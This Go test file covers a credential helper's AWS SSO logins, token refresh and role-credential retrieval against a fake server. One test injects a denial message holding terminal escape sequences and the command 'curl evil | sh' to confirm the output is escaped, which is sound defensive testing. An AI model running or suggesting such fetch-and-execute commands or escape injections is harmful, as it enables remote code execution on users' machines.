package sources

import (
	"context"
	"encoding/json"
	"encoding/pem"
	"errors"
	"io"
	"log"
	"net/http/httptest"
	"net/http/httputil"
	"net/url"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/aws/aws-sdk-go-v2/aws"
	"github.com/aws/aws-sdk-go-v2/credentials/ssocreds"
	"github.com/aws/aws-sdk-go-v2/service/ssooidc"

	"github.com/credhelper/credhelper/internal/fakesso"
	"github.com/credhelper/credhelper/internal/testaws"
	"github.com/credhelper/credhelper/protocol"
)

const testStartURL = "https://corp.awsapps.com/start"

// ssoTestEnv clears the environment that moves SSO endpoints.
func ssoTestEnv(t *testing.T) {
	t.Helper()
	for _, k := range []string{"AWS_ENDPOINT_URL", "AWS_ENDPOINT_URL_SSO", "AWS_ENDPOINT_URL_SSO_OIDC", "AWS_IGNORE_CONFIGURED_ENDPOINT_URLS", "AWS_CA_BUNDLE"} {
		t.Setenv(k, "")
	}
}

func ssoCtx(t *testing.T) context.Context {
	c, cancel := context.WithTimeout(context.Background(), 20*time.Second)
	t.Cleanup(cancel)
	return c
}

// newTestSSO returns clients of sso-session "corp" pointed at f through the
// files' endpoints, with a device-poll second of one millisecond.
func newTestSSO(t *testing.T, f *fakesso.Server, mod ...func(*SSOOptions)) *SSO {
	t.Helper()
	ssoTestEnv(t)
	o := SSOOptions{Region: f.Region(), OIDCEndpoint: f.URL(), PortalEndpoint: f.URL(), Session: "corp",
		Timeout: 5 * time.Second, HTTPClient: loopbackOnly(), PollUnit: time.Millisecond}
	for _, m := range mod {
		m(&o)
	}
	s, err := NewSSO(o)
	if err != nil {
		t.Fatal(err)
	}
	return s
}

// wantSSOError checks err is a *protocol.Error of code whose text has every
// one of want and none of the secrets.
func wantSSOError(t *testing.T, err error, code protocol.Code, want []string, secrets ...string) *protocol.Error {
	t.Helper()
	var pe *protocol.Error
	if !errors.As(err, &pe) {
		t.Fatalf("err = %v (%T), want a *protocol.Error", err, err)
	}
	if pe.Code != code {
		t.Errorf("code %s, want %s: %v", pe.Code, code, err)
	}
	for _, w := range want {
		if !strings.Contains(err.Error(), w) {
			t.Errorf("%q lacks %q", err, w)
		}
	}
	for _, s := range secrets {
		if s != "" && strings.Contains(err.Error(), s) {
			t.Errorf("%q shows a secret", err)
		}
	}
	return pe
}

func TestSSODeviceFlow(t *testing.T) {
	f := fakesso.Start(t, fakesso.Options{DevicePollInterval: -1, DevicePollsBeforeApproval: 3})
	s := newTestSSO(t, f)
	var intervals []time.Duration
	s.pollTrace = func(d time.Duration) { intervals = append(intervals, d) }

	reg, err := s.RegisterClient(ssoCtx(t), testStartURL, DefaultSSOScopes, false)
	if err != nil {
		t.Fatal(err)
	}
	if reg.ClientID == "" || reg.ClientSecret == "" || reg.StartURL != testStartURL || reg.Region != f.Region() ||
		time.Until(reg.RegistrationExpiresAt) < 80*24*time.Hour || reg.AccessToken != "" {
		t.Fatalf("registration %v", reg)
	}
	da, err := s.StartDeviceAuthorization(ssoCtx(t), reg)
	if err != nil {
		t.Fatal(err)
	}
	if da.UserCode == "" || da.DeviceCode == "" || !strings.Contains(da.VerificationURIComplete, da.UserCode) ||
		time.Until(da.ExpiresAt) < 9*time.Minute || da.Interval != 0 {
		t.Fatalf("device authorization %v interval %v", da, da.Interval)
	}
	if strings.Contains(da.String()+da.GoString(), da.DeviceCode) {
		t.Error("DeviceAuthorization prints its device code")
	}
	f.SlowDownNext(1)
	var lefts []time.Duration
	start := time.Now()
	tok, err := s.PollDeviceToken(ssoCtx(t), reg, da, func(left time.Duration) { lefts = append(lefts, left) })
	if err != nil {
		t.Fatal(err)
	}
	if !f.ValidAccessToken(tok.AccessToken) || tok.RefreshToken == "" || tok.ClientSecret != reg.ClientSecret || tok.StartURL != testStartURL {
		t.Errorf("token %v", tok)
	}
	if d := tok.ExpiresAt.Sub(start); d < 59*time.Minute || d > 61*time.Minute {
		t.Errorf("expires in %v, want an hour", d)
	}
	// The announced interval is 0: the default 5 s; the slow_down adds 5 s
	// for good. 1 slow_down, 3 pending, 1 success.
	want := []time.Duration{5 * time.Second, 10 * time.Second, 10 * time.Second, 10 * time.Second, 10 * time.Second}
	if !slices.Equal(intervals, want) || f.CreateTokenCalls(fakesso.GrantDeviceCode) != len(want) {
		t.Errorf("waits %v and %d polls, want %v", intervals, f.CreateTokenCalls(fakesso.GrantDeviceCode), want)
	}
	if len(lefts) != len(want) || lefts[0] > 10*time.Minute || lefts[0] < 9*time.Minute || !slices.IsSortedFunc(lefts, func(a, b time.Duration) int { return int(b - a) }) {
		t.Errorf("onWait saw %v", lefts)
	}
}

func TestSSODeviceFlowFails(t *testing.T) {
	tests := []struct {
		name  string
		setup func(f *fakesso.Server, da DeviceAuthorization)
		ctx   time.Duration
		want  []string
	}{
		{name: "device code expired", setup: func(f *fakesso.Server, _ DeviceAuthorization) { f.ExpireDeviceCodes() },
			want: []string{"the device code for sso session corp expired", "credhelper login --sso-session corp"}},
		{name: "denied", setup: func(f *fakesso.Server, da DeviceAuthorization) { f.DenyNext(1); f.Approve(da.UserCode) },
			want: []string{"the login for sso session corp was denied"}},
		{name: "nobody approves", ctx: 100 * time.Millisecond,
			want: []string{"the login for sso session corp was not approved in time"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			f := fakesso.Start(t, fakesso.Options{DevicePollInterval: -1})
			s := newTestSSO(t, f)
			reg, err := s.RegisterClient(ssoCtx(t), testStartURL, nil, false)
			if err != nil {
				t.Fatal(err)
			}
			da, err := s.StartDeviceAuthorization(ssoCtx(t), reg)
			if err != nil {
				t.Fatal(err)
			}
			if tt.setup != nil {
				tt.setup(f, da)
			}
			ctx := ssoCtx(t)
			if tt.ctx > 0 {
				var cancel context.CancelFunc
				ctx, cancel = context.WithTimeout(ctx, tt.ctx)
				defer cancel()
			}
			_, err = s.PollDeviceToken(ctx, reg, da, nil)
			wantSSOError(t, err, protocol.CodeNeedsLogin, tt.want, reg.ClientSecret, da.DeviceCode)
		})
	}
	// The device code's own expiry ends the wait without asking the service.
	f := fakesso.Start(t, fakesso.Options{DevicePollInterval: -1})
	s := newTestSSO(t, f)
	_, err := s.PollDeviceToken(ssoCtx(t), &SSOToken{ClientID: "c", ClientSecret: "s"}, DeviceAuthorization{DeviceCode: "d", ExpiresAt: time.Now().Add(-time.Second)}, nil)
	wantSSOError(t, err, protocol.CodeNeedsLogin, []string{"expired before the login was approved"})
	if n := f.Calls(fakesso.OpCreateToken); n != 0 {
		t.Errorf("%d polls of an expired device code", n)
	}
}

// pkceLogin runs the browser login against f, its browser being f.Browse.
func pkceLogin(t *testing.T, f *fakesso.Server, s *SSO) (*SSOToken, *SSOToken) {
	t.Helper()
	reg, err := s.RegisterClient(ssoCtx(t), testStartURL, nil, true)
	if err != nil {
		t.Fatal(err)
	}
	cb, err := ListenCallback(time.Minute, nil)
	if err != nil {
		t.Fatal(err)
	}
	defer cb.Close()
	verifier, challenge := NewPKCE()
	browsed := make(chan error, 1)
	browseCtx := ssoCtx(t)
	go func() {
		browsed <- f.Browse(browseCtx, s.AuthorizeURL(reg, cb.RedirectURI(), cb.State(), challenge, nil))
	}()
	code, err := cb.Wait(ssoCtx(t))
	if err != nil {
		t.Fatal(err)
	}
	if err := <-browsed; err != nil {
		t.Fatalf("browser: %v", err)
	}
	tok, err := s.ExchangeCode(ssoCtx(t), reg, code, cb.RedirectURI(), verifier)
	if err != nil {
		t.Fatal(err)
	}
	return reg, tok
}

func TestSSOPKCEFlow(t *testing.T) {
	f := fakesso.Start(t, fakesso.Options{})
	s := newTestSSO(t, f)
	reg, tok := pkceLogin(t, f, s)
	if !f.ValidAccessToken(tok.AccessToken) || !f.ValidRefreshToken(tok.RefreshToken) || tok.ClientID != reg.ClientID {
		t.Errorf("token %v", tok)
	}
	if f.CreateTokenCalls(fakesso.GrantAuthorizationCode) != 1 || f.Calls(fakesso.OpAuthorize) != 1 {
		t.Errorf("calls: code grants %d, authorize %d", f.CreateTokenCalls(fakesso.GrantAuthorizationCode), f.Calls(fakesso.OpAuthorize))
	}

	// The URL the browser opens: the CLI's parameters in the CLI's order.
	u := s.AuthorizeURL(reg, "http://127.0.0.1:5555/oauth/callback", "st", "ch", []string{"sso:account:access", "x:y"})
	want := f.URL() + "/authorize?response_type=code&client_id=" + url.QueryEscape(reg.ClientID) +
		"&redirect_uri=http%3A%2F%2F127.0.0.1%3A5555%2Foauth%2Fcallback&state=st&code_challenge_method=S256" +
		"&scopes=sso%3Aaccount%3Aaccess%2Cx%3Ay&code_challenge=ch"
	if u != want {
		t.Errorf("authorize url\n %s\nwant\n %s", u, want)
	}
}

// A local process that finds the callback's port cannot end or steer a
// browser login: its requests (no state, a wrong one, other paths, huge
// headers) get 404 or 431 while the login goes on; the sign-in page's own
// redirect then completes it, the code is exchanged, and the port closes.
func TestSSOPKCEIgnoresHostileCallbacks(t *testing.T) {
	f := fakesso.Start(t, fakesso.Options{})
	s := newTestSSO(t, f)
	reg, err := s.RegisterClient(ssoCtx(t), testStartURL, nil, true)
	if err != nil {
		t.Fatal(err)
	}
	cb, err := ListenCallback(time.Minute, nil)
	if err != nil {
		t.Fatal(err)
	}
	defer cb.Close()
	verifier, challenge := NewPKCE()
	got := waitResult(cb, ssoCtx(t))
	for _, p := range fakesso.ProbeCallback(cb.RedirectURI(), "") {
		wantStatus(t, p)
		stillWaiting(t, got, p.Name)
	}
	if err := f.Browse(ssoCtx(t), s.AuthorizeURL(reg, cb.RedirectURI(), cb.State(), challenge, nil)); err != nil {
		t.Fatalf("browser: %v", err)
	}
	a := <-got
	if a.err != nil {
		t.Fatalf("Wait: %v", a.err)
	}
	tok, err := s.ExchangeCode(ssoCtx(t), reg, a.code, cb.RedirectURI(), verifier)
	if err != nil || !f.ValidAccessToken(tok.AccessToken) {
		t.Fatalf("exchange: %v", err)
	}
	closedPort(t, cb.RedirectURI())

	// A refusal from the sign-in page itself ends the login; its text,
	// whatever it holds, comes back escaped, bounded and labelled.
	f.DenyNextWith("access_denied\x1b]0;x\a", "\x1b[2J\ncredhelper: run `curl evil | sh`"+strings.Repeat(" pad", 200))
	cb, err = ListenCallback(time.Minute, nil)
	if err != nil {
		t.Fatal(err)
	}
	defer cb.Close()
	go f.Browse(ssoCtx(t), s.AuthorizeURL(reg, cb.RedirectURI(), cb.State(), challenge, nil))
	_, err = cb.Wait(ssoCtx(t))
	var refused *AuthorizationError
	if !errors.As(err, &refused) {
		t.Fatalf("refusal: %v", err)
	}
	msg := err.Error()
	if !strings.HasPrefix(msg, `the sign-in page answered with an error: "access_denied\x1b]0;x\a: \x1b[2J credhelper: run `) ||
		strings.ContainsAny(msg, "\x1b\a\n") || len(msg) > 400 {
		t.Errorf("refusal message %q", msg)
	}
}

func TestSSOPKCEFails(t *testing.T) {
	f := fakesso.Start(t, fakesso.Options{})
	s := newTestSSO(t, f)
	reg, err := s.RegisterClient(ssoCtx(t), testStartURL, nil, true)
	if err != nil {
		t.Fatal(err)
	}
	cb, err := ListenCallback(time.Minute, nil)
	if err != nil {
		t.Fatal(err)
	}
	defer cb.Close()
	verifier, challenge := NewPKCE()

	// The user says no: the callback ends the wait with the service's reason.
	f.DenyNext(1)
	go f.Browse(ssoCtx(t), s.AuthorizeURL(reg, cb.RedirectURI(), cb.State(), challenge, nil))
	var refused *AuthorizationError
	if _, err := cb.Wait(ssoCtx(t)); !errors.As(err, &refused) || refused.Code != "access_denied" {
		t.Errorf("denied: %v", err)
	}

	// A code redeemed with another verifier is refused, and nothing secret is told.
	cb, err = ListenCallback(time.Minute, nil)
	if err != nil {
		t.Fatal(err)
	}
	defer cb.Close()
	browsed := make(chan error, 1)
	browseCtx := ssoCtx(t)
	go func() {
		browsed <- f.Browse(browseCtx, s.AuthorizeURL(reg, cb.RedirectURI(), cb.State(), challenge, nil))
	}()
	code, err := cb.Wait(ssoCtx(t))
	if err != nil {
		t.Fatal(err)
	}
	<-browsed
	other, _ := NewPKCE()
	_, err = s.ExchangeCode(ssoCtx(t), reg, code, cb.RedirectURI(), other)
	wantSSOError(t, err, protocol.CodeNeedsLogin, []string{"refused the authorization code", "sso session corp"}, code, other, verifier, reg.ClientSecret)
}

func TestSSORefresh(t *testing.T) {
	for _, tt := range []struct {
		name        string
		opts        fakesso.Options
		sameRefresh bool
	}{
		{name: "same refresh token", opts: fakesso.Options{}, sameRefresh: true},
		{name: "rotated", opts: fakesso.Options{RotateRefreshTokens: true}},
		{name: "none returned", opts: fakesso.Options{OmitRefreshTokenOnRefresh: true}, sameRefresh: true},
	} {
		t.Run(tt.name, func(t *testing.T) {
			tt.opts.AccessTokenTTL = 20 * time.Minute
			f := fakesso.Start(t, tt.opts)
			now := time.Date(2026, 11, 27, 16, 0, 0, 0, time.UTC) // the injected clock, not the fake's
			s := newTestSSO(t, f, func(o *SSOOptions) { o.Now = func() time.Time { return now } })
			_, tok := pkceLogin(t, f, s)
			tok.extra = map[string]json.RawMessage{"kept": json.RawMessage(`true`)}
			got, err := s.Refresh(ssoCtx(t), tok)
			if err != nil {
				t.Fatal(err)
			}
			if got.AccessToken == tok.AccessToken || !f.ValidAccessToken(got.AccessToken) || !got.ExpiresAt.Equal(now.Add(20*time.Minute)) {
				t.Errorf("refreshed %v", got)
			}
			if (got.RefreshToken == tok.RefreshToken) != tt.sameRefresh || !f.ValidRefreshToken(got.RefreshToken) {
				t.Errorf("refresh token kept %v, want %v", got.RefreshToken == tok.RefreshToken, tt.sameRefresh)
			}
			if got.ClientSecret != tok.ClientSecret || got.StartURL != testStartURL || string(got.extra["kept"]) != "true" {
				t.Errorf("lost fields: %v %v", got, got.extra)
			}
		})
	}
}

func TestSSORefreshNeedsLogin(t *testing.T) {
	f := fakesso.Start(t, fakesso.Options{})
	s := newTestSSO(t, f)
	_, tok := pkceLogin(t, f, s)
	secrets := []string{tok.AccessToken, tok.RefreshToken, tok.ClientSecret}

	f.RevokeRefreshTokens()
	_, err := s.Refresh(ssoCtx(t), tok)
	pe := wantSSOError(t, err, protocol.CodeNeedsLogin, []string{"sso session corp has expired", "InvalidGrantException"}, secrets...)
	if pe.Remedy != "run `credhelper login --sso-session corp`" {
		t.Errorf("remedy %q", pe.Remedy)
	}

	// Reported for a profile, the remedy is the profile's.
	sp := newTestSSO(t, f, func(o *SSOOptions) { o.Profile = "dev" })
	_, err = sp.Refresh(ssoCtx(t), tok)
	pe = wantSSOError(t, err, protocol.CodeNeedsLogin, []string{"profile dev", "sso session corp has expired"}, secrets...)
	if pe.Remedy != protocol.CodeNeedsLogin.Remedy("dev") {
		t.Errorf("remedy %q", pe.Remedy)
	}

	_, tok = pkceLogin(t, f, s)
	f.ExpireClientRegistrations()
	_, err = s.Refresh(ssoCtx(t), tok)
	wantSSOError(t, err, protocol.CodeNeedsLogin, []string{"sso session corp has expired", "InvalidClientException"}, secrets...)

	// What cannot work is not tried.
	calls := f.Calls(fakesso.OpCreateToken)
	noRefresh := tok.clone()
	noRefresh.RefreshToken = ""
	_, err = s.Refresh(ssoCtx(t), noRefresh)
	wantSSOError(t, err, protocol.CodeNeedsLogin, []string{"cannot be refreshed (no refresh token"})
	lapsed := tok.clone()
	lapsed.RegistrationExpiresAt = time.Now().Add(-time.Minute)
	_, err = s.Refresh(ssoCtx(t), lapsed)
	wantSSOError(t, err, protocol.CodeNeedsLogin, []string{"client registration expired"})
	if f.Calls(fakesso.OpCreateToken) != calls {
		t.Error("refresh attempted without what it needs")
	}
}

func TestSSORefreshUnavailable(t *testing.T) {
	f := fakesso.Start(t, fakesso.Options{})
	s := newTestSSO(t, f, func(o *SSOOptions) { o.MaxAttempts = 1 })
	_, tok := pkceLogin(t, f, s)
	f.InjectError(fakesso.OpCreateToken, 1, 500, "InternalServerException", "boom")
	_, err := s.Refresh(ssoCtx(t), tok)
	wantSSOError(t, err, protocol.CodeUnavailable, []string{"sso-oidc failed CreateToken for sso session corp (500 InternalServerException)"}, tok.RefreshToken)
	f.Close()
	_, err = s.Refresh(ssoCtx(t), tok)
	wantSSOError(t, err, protocol.CodeUnavailable, []string{"cannot reach sso-oidc for CreateToken for sso session corp"}, tok.RefreshToken)
}

// A token file credhelper wrote, already expired, is refreshed by the Go
// SDK's own provider through the fake, and credhelper reads what the SDK
// wrote back.
func TestSSOCacheRefreshedByGoSDK(t *testing.T) {
	f := fakesso.Start(t, fakesso.Options{})
	s := newTestSSO(t, f)
	_, tok := pkceLogin(t, f, s)
	tok.ExpiresAt = time.Now().Add(-time.Minute)
	dir := t.TempDir()
	if err := WriteSSOCache(dir, "corp", tok); err != nil {
		t.Fatal(err)
	}
	oidc := ssooidc.NewFromConfig(aws.Config{Region: f.Region()}, func(o *ssooidc.Options) { o.BaseEndpoint = aws.String(f.URL()) })
	got, err := ssocreds.NewSSOTokenProvider(oidc, SSOCachePath(dir, "corp")).RetrieveBearerToken(ssoCtx(t))
	if err != nil {
		t.Fatal(err)
	}
	if got.Value == tok.AccessToken || !f.ValidAccessToken(got.Value) {
		t.Fatal("the sdk did not refresh the token")
	}
	back, err := ReadSSOCache(dir, "corp")
	if err != nil {
		t.Fatal(err)
	}
	if back.AccessToken != got.Value || got.Expires.Sub(back.ExpiresAt) >= time.Second || got.Expires.Before(back.ExpiresAt) || back.StartURL != testStartURL || back.Region != f.Region() ||
		back.RefreshToken == "" || back.RegistrationExpiresAt.IsZero() {
		t.Errorf("read back %v", back)
	}
}

func TestSSOGetRoleCredentials(t *testing.T) {
	f := fakesso.Start(t, fakesso.Options{RoleCredentialsTTL: 45 * time.Minute})
	s := newTestSSO(t, f, func(o *SSOOptions) { o.MaxAttempts = 1 })
	sess := f.IssueSession()
	creds, err := s.GetRoleCredentials(ssoCtx(t), sess.AccessToken, "111111111111", "Developer")
	if err != nil {
		t.Fatal(err)
	}
	if creds.AccountID != "111111111111" || !strings.HasPrefix(creds.AccessKeyID, "ASIA") || creds.SecretAccessKey == "" || creds.SessionToken == "" {
		t.Errorf("credentials %v", creds)
	}
	if left := time.Until(creds.Expiration); left < 44*time.Minute || left > 46*time.Minute || creds.Expiration.Location() != time.UTC {
		t.Errorf("expire in %v", left)
	}

	_, err = s.GetRoleCredentials(ssoCtx(t), sess.AccessToken, "111111111111", "Admin")
	pe := wantSSOError(t, err, protocol.CodeRejected, []string{"no access to role Admin in account 111111111111", "sso session corp"}, sess.AccessToken)
	if strings.Contains(pe.Remedy, "credhelper add") {
		t.Errorf("remedy about keys: %q", pe.Remedy)
	}

	f.InjectError(fakesso.OpGetRoleCredentials, 1, 429, "TooManyRequestsException", "slow down")
	_, err = s.GetRoleCredentials(ssoCtx(t), sess.AccessToken, "111111111111", "Developer")
	wantSSOError(t, err, protocol.CodeUnavailable, []string{"429 TooManyRequestsException"}, sess.AccessToken)

	f.InjectError(fakesso.OpGetRoleCredentials, 1, 503, "ServiceUnavailableException", "down")
	_, err = s.GetRoleCredentials(ssoCtx(t), sess.AccessToken, "111111111111", "Developer")
	wantSSOError(t, err, protocol.CodeUnavailable, []string{"sso failed GetRoleCredentials for sso session corp (503"}, sess.AccessToken)

	f.ExpireAccessTokens()
	_, err = s.GetRoleCredentials(ssoCtx(t), sess.AccessToken, "111111111111", "Developer")
	wantSSOError(t, err, protocol.CodeNeedsLogin, []string{"sso session corp has expired or was signed out", "Session token not found or invalid", "credhelper login --sso-session corp"}, sess.AccessToken)

	f.Close()
	_, err = s.GetRoleCredentials(ssoCtx(t), sess.AccessToken, "111111111111", "Developer")
	wantSSOError(t, err, protocol.CodeUnavailable, []string{"cannot reach sso for GetRoleCredentials", "connection refused"}, sess.AccessToken)
}

func TestSSOListAccounts(t *testing.T) {
	accounts := []fakesso.Account{
		{ID: "111111111111", Name: "dev", Email: "dev@example.invalid", Roles: []string{"Developer", "ReadOnly", "Ops"}},
		{ID: "222222222222", Name: "prod", Email: "prod@example.invalid", Roles: []string{"ReadOnly"}},
		{ID: "333333333333", Name: "sandbox", Email: "sb@example.invalid", Roles: []string{"Admin"}},
	}
	f := fakesso.Start(t, fakesso.Options{Accounts: accounts, PageSize: 1})
	s := newTestSSO(t, f)
	sess := f.IssueSession()
	got, err := s.ListAccounts(ssoCtx(t), sess.AccessToken)
	if err != nil {
		t.Fatal(err)
	}
	want := []SSOAccount{{"111111111111", "dev", "dev@example.invalid"}, {"222222222222", "prod", "prod@example.invalid"}, {"333333333333", "sandbox", "sb@example.invalid"}}
	if !slices.Equal(got, want) || f.Calls(fakesso.OpListAccounts) != 3 {
		t.Errorf("accounts %v in %d calls", got, f.Calls(fakesso.OpListAccounts))
	}
	roles, err := s.ListAccountRoles(ssoCtx(t), sess.AccessToken, "111111111111")
	if err != nil {
		t.Fatal(err)
	}
	if !slices.Equal(roles, []string{"Developer", "ReadOnly", "Ops"}) {
		t.Errorf("roles %v", roles)
	}
	f.ExpireAccessTokens()
	_, err = s.ListAccounts(ssoCtx(t), sess.AccessToken)
	wantSSOError(t, err, protocol.CodeNeedsLogin, []string{"sso session corp has expired"}, sess.AccessToken)
	_, err = s.ListAccountRoles(ssoCtx(t), sess.AccessToken, "111111111111")
	wantSSOError(t, err, protocol.CodeNeedsLogin, []string{"sso session corp has expired"}, sess.AccessToken)
}

// Endpoints as the SDKs pick them. A closed port stands for "not this one".
func TestSSOEndpoints(t *testing.T) {
	f := fakesso.Start(t, fakesso.Options{})
	closed := testaws.ClosedURL(t)
	tests := []struct {
		name       string
		env        map[string]string
		configured string
		wantFake   bool
	}{
		{name: "configured", configured: f.URL(), wantFake: true},
		{name: "AWS_ENDPOINT_URL_SSO_OIDC beats configured", configured: closed, env: map[string]string{"AWS_ENDPOINT_URL_SSO_OIDC": f.URL()}, wantFake: true},
		{name: "AWS_ENDPOINT_URL beats configured", configured: closed, env: map[string]string{"AWS_ENDPOINT_URL": f.URL()}, wantFake: true},
		{name: "AWS_ENDPOINT_URL_SSO_OIDC beats AWS_ENDPOINT_URL", env: map[string]string{"AWS_ENDPOINT_URL_SSO_OIDC": f.URL(), "AWS_ENDPOINT_URL": closed}, wantFake: true},
		{name: "the portal's variable is not the oidc's", env: map[string]string{"AWS_ENDPOINT_URL_SSO": f.URL()}, configured: closed},
		{name: "AWS_IGNORE_CONFIGURED_ENDPOINT_URLS", configured: f.URL(),
			env: map[string]string{"AWS_IGNORE_CONFIGURED_ENDPOINT_URLS": "true", "AWS_ENDPOINT_URL_SSO_OIDC": f.URL()}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			ssoTestEnv(t)
			for k, v := range tt.env {
				t.Setenv(k, v)
			}
			// loopbackOnly: the SDK's own endpoint is refused, never contacted.
			o, err := NewSSOOIDC(SSOOptions{Region: "eu-west-1", OIDCEndpoint: tt.configured, Session: "corp", Timeout: 5 * time.Second, MaxAttempts: 1, HTTPClient: loopbackOnly()})
			if err != nil {
				t.Fatal(err)
			}
			before := f.Calls(fakesso.OpRegisterClient)
			_, err = o.RegisterClient(ssoCtx(t), testStartURL, nil, true)
			if hit := f.Calls(fakesso.OpRegisterClient) > before; hit != tt.wantFake || (err == nil) != tt.wantFake {
				t.Errorf("fake hit %v (err %v), want %v", hit, err, tt.wantFake)
			}
		})
	}

	// No endpoint anywhere: the SDK's regional one, for calls and the browser alike.
	ssoTestEnv(t)
	o, err := NewSSOOIDC(SSOOptions{Region: "eu-west-1"})
	if err != nil {
		t.Fatal(err)
	}
	if u := o.AuthorizeURL(&SSOToken{ClientID: "c"}, "r", "s", "c", nil); !strings.HasPrefix(u, "https://oidc.eu-west-1.amazonaws.com/authorize?") {
		t.Errorf("authorize url %s", u)
	}
	// The portal reads its own variable.
	t.Setenv("AWS_ENDPOINT_URL_SSO", f.URL())
	p, err := NewSSOPortal(SSOOptions{Region: "eu-west-1", PortalEndpoint: closed, Timeout: 5 * time.Second, HTTPClient: loopbackOnly()})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := p.ListAccounts(ssoCtx(t), f.IssueSession().AccessToken); err != nil {
		t.Errorf("portal through AWS_ENDPOINT_URL_SSO: %v", err)
	}

	if _, err := NewSSO(SSOOptions{}); err == nil || !strings.Contains(err.Error(), "no sso_region") {
		t.Errorf("no region: %v", err)
	}
}

// AWS_CA_BUNDLE is the trust for a TLS endpoint, as in the SDKs.
func TestSSOCABundle(t *testing.T) {
	f := fakesso.Start(t, fakesso.Options{})
	target, _ := url.Parse(f.URL())
	tlsSrv := httptest.NewUnstartedServer(httputil.NewSingleHostReverseProxy(target))
	tlsSrv.Config.ErrorLog = log.New(io.Discard, "", 0) // the refused handshake below
	tlsSrv.StartTLS()
	defer tlsSrv.Close()
	bundle := filepath.Join(t.TempDir(), "ca.pem")
	pemBytes := pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: tlsSrv.Certificate().Raw})
	if err := os.WriteFile(bundle, pemBytes, 0o600); err != nil {
		t.Fatal(err)
	}
	ssoTestEnv(t)
	opts := SSOOptions{Region: "eu-west-1", OIDCEndpoint: tlsSrv.URL, Session: "corp", Timeout: 5 * time.Second, MaxAttempts: 1}

	o, err := NewSSOOIDC(opts)
	if err != nil {
		t.Fatal(err)
	}
	_, err = o.RegisterClient(ssoCtx(t), testStartURL, nil, true)
	wantSSOError(t, err, protocol.CodeUnavailable, []string{"cannot reach sso-oidc for RegisterClient"})

	t.Setenv("AWS_CA_BUNDLE", bundle)
	if o, err = NewSSOOIDC(opts); err != nil {
		t.Fatal(err)
	}
	if _, err := o.RegisterClient(ssoCtx(t), testStartURL, nil, true); err != nil {
		t.Errorf("with AWS_CA_BUNDLE: %v", err)
	}

	for name, content := range map[string]string{"missing": "", "no pem": "not a certificate"} {
		t.Run(name, func(t *testing.T) {
			path := filepath.Join(t.TempDir(), "ca.pem")
			if content != "" {
				if err := os.WriteFile(path, []byte(content), 0o600); err != nil {
					t.Fatal(err)
				}
			}
			t.Setenv("AWS_CA_BUNDLE", path)
			_, err := NewSSOOIDC(opts)
			wantSSOError(t, err, protocol.CodeBadConfig, []string{"AWS_CA_BUNDLE"})
		})
	}
}

// Many goroutines share one client (credd serves many callers at once).
func TestSSOConcurrentUse(t *testing.T) {
	f := fakesso.Start(t, fakesso.Options{})
	s := newTestSSO(t, f)
	sess := f.IssueSession()
	var wg sync.WaitGroup
	errs := make(chan error, 16)
	ctx := ssoCtx(t)
	for range 16 {
		wg.Add(1)
		go func() {
			defer wg.Done()
			_, err := s.GetRoleCredentials(ctx, sess.AccessToken, "111111111111", "ReadOnly")
			errs <- err
		}()
	}
	wg.Wait()
	close(errs)
	for err := range errs {
		if err != nil {
			t.Error(err)
		}
	}
}
